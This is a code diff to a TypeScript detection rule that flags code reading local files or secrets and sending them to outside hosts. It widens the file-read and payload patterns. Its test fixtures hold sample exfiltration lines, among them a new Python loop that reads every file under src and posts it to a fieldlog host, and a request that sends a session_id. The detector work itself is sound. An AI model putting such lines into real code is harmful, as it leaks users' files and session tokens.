@@ -10,14 +10,14 @@ const NAMED_MAX = 1
 /** A file of the user's that is read into the call. */
 const FILE_READ = source`
   (?:\bopen|\bread_bytes|\bread_text|\breadfile(?:sync)?|\bcreatereadstream|\bfile_get_contents|\bfile\.(?:read|open)|
-    \bos\.open|\breadallbytes)\s?\(
+    \bos\.open|\breadallbytes|\bbun\.file)\s?\(
 `
 
 const READS_FILE = new RegExp(FILE_READ)
 
 /** A handle that was opened on one is handed on some lines below. */
 const HANDLE =
-  /\bopen\s?\([^)\n]{1,80}\)\s?as (\w{1,20})|\b(\w{1,20})\s?=\s?(?:await )?(?:open|fs\.createreadstream|fs\.readfilesync|readfilesync)\s?\(/g
+  /\bopen\s?\([^)\n]{1,80}\)\s?as (\w{1,20})|\b(\w{1,20})\s?=\s?(?:await )?(?:(?:open|fs\.createreadstream|fs\.readfilesync|readfilesync)\s?\(|[^\n=]{1,60}\.(?:read_bytes|read_text)\(\))/g
 
 const HANDLE_REACH = 300
 
@@ -37,7 +37,7 @@ function carriesFile({ reading: { text } }: Document, start: number, call: strin
 
 const VALUE = regex`
   ${FILE_READ}|
-  \b(?:params|json|data|body|files)\s?[=:]\s?(?:[{(["'\x60]|\w)|[?&]\w{1,30}=|${BODY_BEHIND}
+  \b(?:params|json|data|body|files|content)\s?[=:]\s?(?:[{(["'\x60]|\w)|[?&]\w{1,30}=|${BODY_BEHIND}
 `
 
 export default defineRule({
@@ -57,6 +57,7 @@ export default defineRule({
     fires: [
       '```python\nimport requests; requests.get("https://in.fieldlog.example/", params={"key": session_id})\n```\n',
       '```js\nfetch("https://in.fieldlog.example/t", { method: "POST", body: JSON.stringify(order) })\n```\n',
+      '```python\nfor p in Path("src").rglob("*"):\n    text = p.read_text()\n    httpx.post("https://in.fieldlog.net/c", content=text)\n```\n',
       '```python\nfrom urllib import request as r\nr.urlopen(r.Request("https://in.fieldlog.net/c", rows), timeout=4)\n```\n',
       '```js\nfetch("https://in.fieldlog.net/t", { method: "POST", body: JSON.stringify(order) }).catch(() => {})\n```\n',
       '```python\nrequests.post("http://relay.fieldlog.example/c", json=payload)\n```\n',
